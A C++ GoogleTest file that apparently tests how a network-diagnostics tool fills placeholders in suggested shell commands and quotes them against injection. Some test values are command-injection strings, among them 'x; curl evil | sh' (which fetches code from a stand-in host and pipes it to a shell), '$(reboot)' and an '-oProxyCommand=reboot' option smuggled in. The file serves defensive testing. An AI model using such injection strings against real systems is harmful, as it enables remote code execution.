#include <gtest/gtest.h>

#include "framework/limits/remedy.h"

namespace rigproof {
namespace {

// A command and a hint; empty: none.
std::string filled(std::string_view command, const RemedyValues& values) {
  return fill_placeholders({.fix = {std::string(command)}}, values).fix.at(0);
}
std::string filled_hint(std::string_view hint, const RemedyValues& values) {
  return fill_placeholders({.hint = {std::string(hint)}}, values).hint.at(0);
}

TEST(Remedy, IsOneLineInATable) {
  EXPECT_EQ(to_text(Remedy{.check = {"ethtool eth0", "lspci"}, .fix = {"reboot"}, .hint = {"Then wait."}}),
            "check: ethtool eth0; check: lspci; fix: reboot; Then wait.");
  EXPECT_EQ(to_text(Remedy{}), "");
}
TEST(Remedy, EachOfItsCommandsIsFilledOnItsOwn) {
  const Remedy remedy{.check = {"echo '", "ls {netdev}"}, .fix = {"rm {netdev}"}, .hint = {"{netdev}?"}};
  EXPECT_EQ(fill_placeholders(remedy, {{"netdev", "a b"}}),
            (Remedy{.check = {"echo '", "ls 'a b'"}, .fix = {"rm 'a b'"}, .hint = {"a b?"}}));
}
TEST(Remedy, OrdinaryValuesStandAsTheyAre) {
  EXPECT_EQ(filled("ip link set {netdev} mtu {mtu}", {{"netdev", "eth0"}, {"mtu", "9000"}}),
            "ip link set eth0 mtu 9000");
  EXPECT_EQ(filled("for n in {netdevs}; do ethtool $n; done", {{"netdevs", "enp1s0f0np0 enP2p1s0f0np0"}}),
            "for n in enp1s0f0np0 enP2p1s0f0np0; do ethtool $n; done");
  EXPECT_EQ(filled_hint("{here} here, {there} on {others}",
                        {{"here", "6.1.0 (x)"}, {"there", "4096\t87380"}, {"others", "node-b"}}),
            "6.1.0 (x) here, 4096 87380 on node-b");
  EXPECT_EQ(filled("sudo sysctl -w {sysctl}='{wanted}'",
                   {{"sysctl", "net.ipv4.tcp_rmem"}, {"wanted", "4096 131072 6291456"}}),
            "sudo sysctl -w net.ipv4.tcp_rmem='4096 131072 6291456'");
  EXPECT_EQ(filled("sudo ip addr {change} dev {netdev}", {{"change", "add 10.1.0.1/16"}, {"netdev", "eth0"}}),
            "sudo ip addr add 10.1.0.1/16 dev eth0");
  EXPECT_EQ(filled("ping -s $(({mtu} - 28)) {peer}", {{"mtu", "9000"}, {"peer", "10.1.0.2"}}),
            "ping -s $((9000 - 28)) 10.1.0.2");
}
// What a record says is never a command.
TEST(Remedy, AValueIsOneWordOfTheShell) {
  EXPECT_EQ(filled("ping -I {netdev} {peer}", {{"netdev", "x; curl evil | sh"}, {"peer", "it's"}}),
            R"(ping -I 'x; curl evil | sh' 'it'\''s')");
  EXPECT_EQ(filled("cat {file}", {{"file", "a # b"}}), "cat 'a # b'");
  EXPECT_EQ(filled("for n in {netdevs}; do", {{"netdevs", "a $(reboot) b;c"}}),
            "for n in a '$(reboot)' 'b;c'; do");
  EXPECT_EQ(filled_hint("{here} here", {{"here", "x\n; reboot"}}), R"('x\x0A; reboot' here)");
}
// In quotes, which another shell may read again, in arithmetic and for a program that would take it for an option.
TEST(Remedy, AValueThatCannotBeTypedThereIsAWordInCapitals) {
  EXPECT_EQ(filled("sysctl -w x='{wanted}'", {{"wanted", "1'; reboot; '"}}), "sysctl -w x='LIMIT'");
  EXPECT_EQ(filled("ssh {to} \"ip link show {netdev}\"", {{"to", "node-b"}, {"netdev", "x;reboot"}}),
            "ssh node-b \"ip link show NETDEV\"");
  EXPECT_EQ(filled("ping -s $(({mtu} - 28)) -I {netdev}", {{"mtu", "a[$(reboot)]"}, {"netdev", "a b"}}),
            "ping -s $((MTU - 28)) -I 'a b'");
  EXPECT_EQ(filled("echo `cat {file}`", {{"file", "a;b"}}), "echo `cat FILE`");
  EXPECT_EQ(filled("echo \"$(cat {file})\"", {{"file", "a b"}}), "echo \"$(cat FILE)\"");
  EXPECT_EQ(filled("ssh-copy-id {to}", {{"to", "-oProxyCommand=reboot"}}), "ssh-copy-id OTHER_NODE");
  EXPECT_EQ(filled("sysctl -w x={wanted}", {{"wanted", "-1"}}), "sysctl -w x=-1");
  EXPECT_EQ(filled("cat {file}", {{"file", "a\nreboot"}}), "cat FILE");
}
TEST(Remedy, WhatHasNoValueIsAWordInCapitals) {
  EXPECT_EQ(filled("ethtool {netdev} # {here} here, {there} on {others}: {peer_node}", {{"netdev", ""}}),
            "ethtool NETDEV # VALUE here, OTHER_VALUE on most nodes: PEER_NODE");
  EXPECT_EQ(filled("sysctl net.core.{r,w}mem_max ${name} {unknown} {Word} {netdev", {{"netdev", "eth0"}}),
            "sysctl net.core.{r,w}mem_max ${name} UNKNOWN {Word} {netdev");
  EXPECT_EQ(filled("{a}{a}", {{"a", "{a}"}}), "'{a}''{a}'");
}

TEST(Remedy, OfAFindingHasOnlyStepsWhoseWordsHaveValues) {
  const Remedy remedy{.check = {"lspci -s {function}", "echo ${function} {netdev}"},
                      .fix = {"ip link set {netdev} up", "reboot {unknown"},
                      .hint = {"Type it on {switch}.", "Then wait."}};
  EXPECT_EQ(remedy_of_finding(remedy, {{"netdev", "eth0"}, {"function", ""}}),
            (Remedy{.check = {"echo ${function} eth0"},
                    .fix = {"ip link set eth0 up", "reboot {unknown"},
                    .hint = {"Then wait."}}));
}

}  // namespace
}  // namespace rigproof
